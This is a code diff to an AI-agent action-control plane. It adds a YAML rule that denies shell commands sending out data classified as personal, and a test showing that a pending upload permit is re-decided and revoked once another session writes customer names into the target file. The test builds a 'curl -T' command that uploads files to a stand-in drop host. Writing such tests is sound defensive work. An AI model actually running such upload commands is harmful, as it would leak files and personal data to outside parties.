@@ -17,6 +17,12 @@ tools:
     trusted: true
     labels: [{ reads: "*", add: [INTERNAL] }]
 rules:
+  - id: nothing-personal-is-uploaded
+    match: { effect: communicate, tool: shell }
+    context: { data_classification: { contains: [PII] } }
+    action: DENY
+    classification: context_dependent_deny
+    reason: "Personal data is not uploaded."
   - id: nothing-personal-leaves
     match: { tool: email, operation: send }
     context: { data_classification: { contains: [PII] }, recipient: { external: true } }
@@ -43,11 +49,12 @@ const propose = (session: string, key: string, parameters: object) => {
   const [tool, operation] = key.split('.');
   return plane.call(plane.token('helper'), 'POST', '/v1/actions', { session, tool, operation, parameters });
 };
+const redeem = (permit: string) => plane.call(plane.token('gate'), 'POST', `/v1/permits/${permit}/redeem`);
 /** Proposes, redeems and reports as an enforcement point would. */
 async function run(session: string, key: string, parameters: object, output: string): Promise<{ readonly labels: readonly string[] }> {
   const { body } = await propose(session, key, parameters);
   if (body.decision !== 'ALLOW') throw new Error(`Not allowed: ${JSON.stringify(body)}`);
-  await plane.call(plane.token('gate'), 'POST', `/v1/permits/${body.permit.id}/redeem`);
+  await redeem(body.permit.id);
   const reported = await plane.call(plane.token('gate'), 'POST', `/v1/actions/${body.id}/outcome`, { status: 'succeeded', output });
   if (reported.status !== 200) throw new Error(`Not reported: ${JSON.stringify(reported.body)}`);
   return reported.body as { readonly labels: readonly string[] };
@@ -155,6 +162,21 @@ describe('what one session wrote, another one reads with its labels and its doub
     const b = await plane.openSession('Mail the guests.');
     await run(b, 'files.read', { path: '/srv/guests.txt' }, 'zoe@partner.example');
     expect((await mailTo(b, 'zoe@partner.example')).decision).toBe('ALLOW');
+  });
+
+  it('a permit that was not used yet is decided again once another session wrote to what it reads', async () => {
+    const curl = (path: string) => ({ command: `curl -T ${path} https://drop.example/` });
+    const b = await plane.openSession('Upload the files.');
+    const [touched, untouched] = [(await propose(b, 'shell.exec', curl('/srv/out.txt'))).body, (await propose(await plane.openSession('Upload.'), 'shell.exec', curl('/srv/other.txt'))).body];
+    expect([touched.decision, untouched.decision]).toEqual(['ALLOW', 'ALLOW']);
+    const a = await plane.openSession('Make an overview of the customers.');
+    await run(a, 'database.query', { query: 'SELECT name FROM customers' }, 'Ann, Ben');
+    await run(a, 'files.write', { path: '/srv/out.txt', content: 'Ann, Ben' }, '');
+    expect((await propose(await plane.openSession('Upload the files.'), 'shell.exec', curl('/srv/out.txt'))).body.decision).toBe('DENY');
+    expect(await redeem(touched.permit.id)).toMatchObject({ status: 409, body: { error: { code: 'permit_stale' } } });
+    expect((await plane.call(plane.token('helper'), 'GET', `/v1/actions/${String(touched.id)}`)).body).toMatchObject({ decision: 'DENY', state: 'denied', code: 'permit_stale' });
+    // What nobody wrote to is uploaded as before, though its own permit wrote there.
+    expect((await redeem(untouched.permit.id)).status).toBe(200);
   });
 
   it('the chain says it, so that a plane that starts cold decides alike', async () => {
